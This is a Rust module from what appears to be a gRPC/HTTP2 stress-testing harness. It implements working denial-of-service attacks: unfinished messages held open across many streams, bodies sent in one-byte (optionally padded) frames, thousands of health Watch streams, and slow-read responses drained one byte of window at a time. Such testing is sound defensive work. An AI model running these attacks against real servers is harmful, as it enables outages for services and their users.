//! Attackers that keep within the windows they are given: messages that are never finished, messages in frames of one
//! byte, watches by the thousand, and answers that are let out a byte at a time. Must never know what it does to others.

use std::time::Duration;

use tokio::time::{Instant, sleep};

use super::kind::Kind;
use super::wire::{
    DATA, END_HEADERS, END_STREAM, End, HEADERS, Line, PADDED, RST_STREAM, WINDOW_UPDATE, frame, head,
    message,
};

const HEALTH: &str = "/grpc.health.v1.Health/Check";
const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const CREATE: &str = "/orders.v1.OrderService/CreateOrder";
/// There is no such rpc.
const NOTHING: &str = "/orders.v1.OrderService/Nothing";
/// As large a message as tonic takes.
const LARGE: usize = 4 << 20;
const FRAME: usize = 16 << 10;
/// Bytes that are sent at once, in frames of one.
const BATCH: usize = 500;
/// What one stream may be given of a connection's turn, so that all grow together.
const TURN: usize = 8 * FRAME;
/// Until it is looked again whether there is room.
const LOOK: Duration = Duration::from_millis(50);
/// Watches that are begun in a second by all connections: it is not the calls that are to be felt.
const WATCHES: f64 = 3_000.0;
/// What is let out of a connection before the first byte is let out of a stream.
const OUT: u32 = 1 << 30;
/// Pages that are let out a byte at a time, per connection.
const DRIPS: u32 = 100;

/// Messages in parts.
#[derive(Clone)]
pub(super) struct Bodies {
    block: Vec<u8>,
    /// What a message says of its length. Its last byte is never sent.
    size: usize,
    /// At a time, per connection.
    streams: usize,
    /// Bytes of a message in a frame, and of padding where it is padded.
    part: usize,
    padding: Option<u8>,
    /// Whether what cannot be finished stays.
    stays: bool,
}

/// A message on its way.
struct Body {
    stream: u32,
    left: usize,
}

impl Bodies {
    pub(super) fn of(kind: Kind, most: usize) -> Option<Bodies> {
        let unfinished = |path, size, streams| {
            let block = head(path, &[]);
            Bodies { block, size, streams, part: FRAME, padding: None, stays: true }
        };
        let bytes = |path, padding| {
            let block = head(path, &[]);
            Bodies { block, size: most, streams: 1, part: 1, padding, stays: false }
        };
        Some(match kind {
            Kind::HealthUnfinished => unfinished(HEALTH, LARGE, 600),
            Kind::ReflectionUnfinished => unfinished(REFLECTION, LARGE, 600),
            Kind::HalfSent => unfinished(CREATE, most, 512),
            Kind::OneByteData => bytes(CREATE, None),
            Kind::OneBytePadded => bytes(CREATE, Some(0)),
            Kind::OneByteRefused => bytes(NOTHING, None),
            _ => return None,
        })
    }

    pub(super) async fn send(&self, line: &mut Line, end: Instant, sent: &mut u64) -> Result<(), End> {
        let (mut bodies, mut next) = (Vec::<Body>::new(), 1);
        while Instant::now() < end {
            line.settle(end).await?;
            bodies.retain(|body| line.room.has(body.stream));
            let mut bytes = Vec::new();
            while bodies.len() < self.streams.min(line.room.most) {
                line.room.open(next);
                bytes.extend(frame(HEADERS, END_HEADERS, next, &self.block));
                bodies.push(Body { stream: next, left: self.size + 5 });
                next += 2;
            }
            for body in &mut bodies {
                self.more(line, body, &mut bytes, sent);
            }
            if bytes.is_empty() {
                line.hear(end.min(Instant::now() + LOOK)).await?;
            } else {
                line.send(&bytes, end, true).await?;
            }
        }
        Ok(())
    }

    /// As much of a message as there is room for, in its turn.
    fn more(&self, line: &mut Line, body: &mut Body, bytes: &mut Vec<u8>, sent: &mut u64) {
        // Padding and its length count as well.
        let around = self.padding.map_or(0, |padding| usize::from(padding) + 1);
        let turn = if self.part == 1 { BATCH } else { TURN };
        let mut taken = 0;
        while body.left > 1 && taken < turn && line.room.of(body.stream) > around {
            let room = line.room.of(body.stream) - around;
            let length = self.part.min(body.left - 1).min(room);
            let mut part = vec![0; length];
            let said = self.size + 5 - body.left;
            let prefix = message(false, self.size, &[]);
            part.iter_mut().zip(prefix.iter().skip(said)).for_each(|(byte, prefix)| *byte = *prefix);
            match self.padding {
                Some(padding) => {
                    let padded = [&[padding], &part[..], &vec![0; usize::from(padding)]].concat();
                    bytes.extend(frame(DATA, PADDED, body.stream, &padded));
                }
                None => bytes.extend(frame(DATA, 0, body.stream, &part)),
            }
            line.room.spend(body.stream, length + around);
            (body.left, taken) = (body.left - length, taken + length);
            *sent += if self.part == 1 { 1 } else { length as u64 };
        }
        if body.left == 1 && !self.stays {
            bytes.extend(frame(RST_STREAM, 0, body.stream, &[0, 0, 0, 8]));
            line.room.close(body.stream);
        }
    }
}

/// Watches of health, as many as a connection takes; those that were refused are not tried again.
pub(super) async fn watches(
    line: &mut Line,
    connections: usize,
    end: Instant,
    sent: &mut u64,
) -> Result<(), End> {
    line.hear(end).await?;
    let pause = Duration::from_secs_f64(connections as f64 / WATCHES);
    let (block, empty) = (head(HEALTH_WATCH, &[]), message(false, 0, &[]));
    let most = u32::try_from(line.room.most.min(1_024)).unwrap_or(1_024);
    for number in 0..most {
        let stream = 2 * number + 1;
        if Instant::now() >= end {
            return Ok(());
        }
        let begin = frame(HEADERS, END_HEADERS, stream, &block);
        line.settle(end).await?;
        if !line.send(&[begin, frame(DATA, END_STREAM, stream, &empty)].concat(), end, true).await? {
            return Ok(());
        }
        *sent += 1;
        sleep(pause).await;
    }
    while Instant::now() < end {
        line.hear(end.min(Instant::now() + LOOK)).await?;
        line.settle(end).await?;
    }
    Ok(())
}

/// Calls with a large answer, which is let out a byte at a time. The first window is nothing.
pub(super) async fn drip(
    line: &mut Line,
    call: impl Fn(u32) -> Vec<u8>,
    end: Instant,
    sent: &mut u64,
) -> Result<(), End> {
    line.send(&frame(WINDOW_UPDATE, 0, 0, &OUT.to_be_bytes()), end, true).await?;
    let mut next = 1;
    let mut streams = Vec::new();
    while Instant::now() < end {
        line.settle(end).await?;
        streams.retain(|stream| line.room.has(*stream));
        let mut bytes = Vec::new();
        while streams.len() < DRIPS as usize {
            line.room.open(next);
            bytes.extend(call(next));
            streams.push(next);
            next += 2;
        }
        for stream in &streams {
            bytes.extend(frame(WINDOW_UPDATE, 0, *stream, &1_u32.to_be_bytes()));
        }
        if line.send(&bytes, end, true).await? {
            *sent += streams.len() as u64;
        }
    }
    Ok(())
}
